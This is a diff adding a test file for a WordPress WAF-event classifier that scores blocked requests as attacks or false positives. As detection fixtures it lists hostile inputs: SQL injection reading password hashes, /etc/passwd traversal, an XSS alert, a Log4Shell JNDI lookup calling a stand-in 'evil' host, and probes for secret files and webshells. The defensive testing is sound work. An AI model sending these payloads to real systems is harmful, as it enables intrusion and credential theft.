@@ -1,0 +1,214 @@
+import { describe, expect, it } from 'vitest';
+import type { WafEvent } from '../../schemas/event.js';
+import { classifyRequest, foldFleetSignals } from '../../src/classify/classify.js';
+import type { FleetFacts, IpFacts } from '../../src/classify/signal.js';
+import { FLEET_SIGNALS, REQUEST_SIGNALS } from '../../src/classify/signals.js';
+import { eventFixture } from '../support/events.js';
+
+/**
+ * Each signal's own cases (the StreamAlert/Panther detection style): events it must fire on and
+ * look-alikes it must not.
+ */
+type Case = Partial<WafEvent>;
+const SESSION = ['wordpress_logged_in_9f2', 'wordpress_sec_9f2', 'wp-settings-1'];
+
+const requestCases: Record<string, { fires: Case[]; quiet: Case[] }> = {
+  'wp-session': {
+    fires: [{ wp_session: true, cookie_names: SESSION }],
+    quiet: [{ cookie_names: ['wp-settings-1'] }],
+  },
+  'editor-endpoint': {
+    fires: [
+      { method: 'POST', path: '/wp-admin/async-upload.php' },
+      { method: 'POST', path: '/wp-json/wp/v2/posts/812', rule_id: 'CrossSiteScripting_BODY' },
+      { method: 'POST', path: '/', query: 'rest_route=/wp/v2/pages/9', rule_id: 'CrossSiteScripting_BODY' },
+    ],
+    quiet: [
+      { method: 'GET', path: '/wp-admin/post.php' },
+      { method: 'POST', path: '/wp-admin/post.php', rule_id: 'SQLi_QUERYARGUMENTS' },
+      { method: 'POST', path: '/wp-content/plugins/x/upload.php' },
+    ],
+  },
+  'oversize-upload': {
+    fires: [{ method: 'POST', path: '/wp-json/wp/v2/media' }],
+    quiet: [
+      { method: 'POST', path: '/wp-json/wp/v2/posts/1' },
+      { method: 'POST', path: '/wp-admin/async-upload.php', rule_id: 'GenericRFI_BODY' },
+    ],
+  },
+  checkout: {
+    fires: [{ method: 'POST', path: '/', query: 'wc-ajax=checkout', rule_id: 'CrossSiteScripting_BODY' }],
+    quiet: [
+      { method: 'GET', path: '/', query: 'wc-ajax=checkout' },
+      { method: 'POST', path: '/', query: 'p=1' },
+    ],
+  },
+  'attack-payload': {
+    fires: [
+      { query: "id=1'%20UNION%20SELECT%20user_pass%20FROM%20wp_users--" },
+      { query: 'file=../../../../etc/passwd' },
+      { query: 's=%3Cscript%3Ealert(1)%3C/script%3E' },
+      { path: '/index.php', query: 'x=${jndi:ldap://evil/a}' },
+      { query: 'page=php://filter/convert.base64-encode/resource=index' },
+    ],
+    quiet: [
+      { query: 's=union+station+selection' },
+      { query: 'p=123&preview=true' },
+      { path: '/2024/03/select-the-best/' },
+    ],
+  },
+  'injection-outside-body': {
+    fires: [
+      { rule_group: 'AWS#AWSManagedRulesSQLiRuleSet', rule_id: 'SQLi_QUERYARGUMENTS' },
+      { rule_group: 'AWS#AWSManagedRulesWordPressRuleSet', rule_id: 'WordPressExploitablePaths_URIPATH' },
+      { rule_group: 'AWS#AWSManagedRulesKnownBadInputsRuleSet', rule_id: 'Log4JRCE_HEADER' },
+    ],
+    quiet: [
+      { rule_id: 'CrossSiteScripting_BODY' },
+      { rule_id: 'NoUserAgent_HEADER' },
+      { rule_id: 'SizeRestrictions_QUERYSTRING' },
+    ],
+  },
+  'probe-path': {
+    fires: [
+      { path: '/.env' },
+      { path: '/.git/config' },
+      { path: '/wp-config.php.bak' },
+      { path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' },
+      { path: '/wp-content/uploads/2024/shell.php' },
+    ],
+    quiet: [
+      { path: '/wp-login.php' },
+      { path: '/environment-policy/' },
+      { path: '/wp-content/uploads/2024/photo.jpg' },
+    ],
+  },
+  'scanner-user-agent': {
+    fires: [
+      { user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' },
+      { user_agent: 'Mozilla/5.0 (compatible; Nuclei - Open-source project)' },
+    ],
+    quiet: [
+      { user_agent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) Safari/605.1.15' },
+      { user_agent: null },
+    ],
+  },
+  'http-library-user-agent': {
+    fires: [{ user_agent: 'python-requests/2.31.0' }, { user_agent: 'Go-http-client/1.1' }],
+    quiet: [{ user_agent: 'Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0' }],
+  },
+  'no-user-agent': {
+    fires: [{ user_agent: null }, { user_agent: '  ' }],
+    quiet: [{ user_agent: 'UptimeRobot/2.0' }],
+  },
+  'reputation-list': {
+    fires: [{ labels: ['awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList'] }],
+    quiet: [{ labels: ['awswaf:managed:aws:anonymous-ip-list:HostingProviderIPList'] }],
+  },
+  'rate-limited': {
+    fires: [{ terminating_rule_type: 'RATE_BASED' }],
+    quiet: [{ terminating_rule_type: 'MANAGED_RULE_GROUP' }],
+  },
+  'admin-write-without-session': {
+    fires: [{ method: 'POST', path: '/wp-admin/async-upload.php', cookie_names: [] }],
+    quiet: [
+      { method: 'POST', path: '/wp-admin/async-upload.php', cookie_names: SESSION, wp_session: true },
+      { method: 'POST', path: '/wp-admin/async-upload.php', cookie_redacted: true },
+      { method: 'POST', path: '/wp-admin/admin-ajax.php' },
+    ],
+  },
+};
+
+describe('request signals', () => {
+  it('every request signal has its own cases, a weight and a one-line reason', () => {
+    expect(Object.keys(requestCases).sort()).toEqual(REQUEST_SIGNALS.map((s) => s.id).sort());
+    for (const s of [...REQUEST_SIGNALS, ...FLEET_SIGNALS]) {
+      expect(s.weight).not.toBe(0);
+      expect(s.reason).toMatch(/^[^\n]{10,120}$/);
+    }
+  });
+
+  for (const signal of REQUEST_SIGNALS) {
+    const cases = requestCases[signal.id];
+    it(`${signal.id}: fires on its cases and stays quiet on the look-alikes`, () => {
+      for (const c of cases?.fires ?? [])
+        expect(signal.applies(eventFixture(c)), JSON.stringify(c)).toBe(true);
+      for (const c of cases?.quiet ?? [])
+        expect(signal.applies(eventFixture(c)), JSON.stringify(c)).toBe(false);
+    });
+  }
+});
+
+const ip = (f: Partial<IpFacts>): FleetFacts => ({
+  ip: {
+    requests: 10,
+    sites: 1,
+    attackRequests: 0,
+    attackSites: 0,
+    adminWork: 0,
+    distinctPaths: 3,
+    onlyRootGets: false,
+    ...f,
+  },
+});
+
+describe('verdicts', () => {
+  it('an editor upload blocked by SizeRestrictions_BODY is a likely false positive', () => {
+    const e = classifyRequest(
+      eventFixture({
+        method: 'POST',
+        path: '/wp-admin/async-upload.php',
+        wp_session: true,
+        cookie_names: SESSION,
+      }),
+    );
+    expect(e.verdict).toBe('likely-false-positive');
+    expect(e.reasons).toContain('carried a WordPress logged-in session cookie');
+  });
+
+  it('a webshell upload attempt on the same endpoint, from a scanner, is a likely attack', () => {
+    const e = classifyRequest(
+      eventFixture({
+        method: 'POST',
+        path: '/wp-admin/async-upload.php',
+        user_agent: 'python-requests/2.31',
+      }),
+    );
+    const final = foldFleetSignals(e, ip({ attackRequests: 40, attackSites: 12, sites: 12 }));
+    expect(final.verdict).toBe('likely-attack');
+  });
+
+  it('behind a redacted Cookie header, what the address did across the fleet decides an upload block', () => {
+    const e = classifyRequest(
+      eventFixture({ method: 'POST', path: '/wp-admin/async-upload.php', cookie_redacted: true }),
+    );
+    expect(e.signals).not.toContain('admin-write-without-session');
+    expect(foldFleetSignals(e, ip({ adminWork: 30 })).verdict).toBe('likely-false-positive');
+    expect(foldFleetSignals(e, ip({ attackRequests: 25, attackSites: 9 })).verdict).toBe('likely-attack');
+  });
+
+  it('an uptime monitor without a user agent is not an attacker', () => {
+    const e = classifyRequest(eventFixture({ rule_id: 'NoUserAgent_HEADER', user_agent: null }));
+    expect(foldFleetSignals(e, ip({ sites: 60, onlyRootGets: true, distinctPaths: 1 })).verdict).toBe(
+      'likely-false-positive',
+    );
+  });
+
+  it('SQL injection in the query string is a likely attack on its own', () => {
+    const e = classifyRequest(
+      eventFixture({
+        rule_group: 'AWS#AWSManagedRulesSQLiRuleSet',
+        rule_id: 'SQLi_QUERYARGUMENTS',
+        query: "id=1' or '1'='1",
+      }),
+    );
+    expect(e.verdict).toBe('likely-attack');
+  });
+
+  it('allowed requests are not classified', () => {
+    const e = classifyRequest(
+      eventFixture({ action: 'ALLOW', rule_action: null, rule_id: null, rule_group: null }),
+    );
+    expect(e).toMatchObject({ verdict: null, score: 0, signals: [] });
+  });
+});
